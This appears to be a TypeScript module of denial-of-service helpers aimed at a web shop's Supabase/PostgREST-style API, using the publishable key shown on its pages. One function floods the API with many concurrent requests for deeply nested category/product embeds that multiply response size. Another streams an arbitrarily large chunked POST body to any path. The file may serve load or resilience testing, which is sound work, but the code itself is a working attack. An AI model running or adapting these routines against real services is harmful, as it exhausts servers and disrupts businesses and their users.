import { request } from 'node:http'

/** What an attack needs to know: where the shop is and the key that each page shows. */
export interface Target {
  url: string
  publishableKey: string
}

/** Categories and products within one another, `levels` deep, of which each two multiply the size of the response. */
function nestedEmbeds(levels: number): string {
  let select = 'id'
  for (let level = 0; level < levels; level += 1)
    select = level % 2 === 0 ? `id,products(${select})` : `id,categories(${select})`
  return `/rest/v1/categories?select=${select}`
}

/**
 * Asks for nested embeds `times` at once, and hangs up on those that have no response after `patienceMs`. Resolves with the
 * statuses, 0 for those.
 */
export async function askForNestedEmbeds(
  { url, publishableKey }: Target,
  { levels, times, patienceMs }: { levels: number; times: number; patienceMs: number },
): Promise<number[]> {
  const one = async () => {
    try {
      const response = await fetch(url + nestedEmbeds(levels), {
        headers: { apikey: publishableKey },
        signal: AbortSignal.timeout(patienceMs),
      })
      await response.arrayBuffer()
      return response.status
    } catch {
      return 0
    }
  }
  return await Promise.all(Array.from({ length: times }, one))
}

const CHUNK = Buffer.alloc(64 * 1024, 'x')

/**
 * Sends a body of up to `bytes` to a path and stops at the response. Resolves with its status and how many bytes were sent
 * before it, or with status 0 when the connection was closed.
 */
export function sendLargeBody(
  { url, publishableKey }: Target,
  path: string,
  bytes: number,
): Promise<{ status: number; sent: number }> {
  return new Promise((resolve) => {
    let sent = 0
    const sending = request(url + path, {
      method: 'POST',
      agent: false,
      headers: { apikey: publishableKey, 'content-type': 'application/json', 'transfer-encoding': 'chunked' },
    })
    const end = (status: number) => {
      resolve({ status, sent })
      sending.destroy()
    }
    sending.on('response', (response) => end(response.statusCode ?? 0))
    sending.on('error', () => end(0))
    const write = () => {
      while (sent < bytes && !sending.destroyed) {
        const chunk = CHUNK.subarray(0, bytes - sent)
        sent += chunk.length
        if (!sending.write(chunk)) return
      }
      if (!sending.destroyed) sending.end()
    }
    sending.on('drain', write)
    write()
  })
}
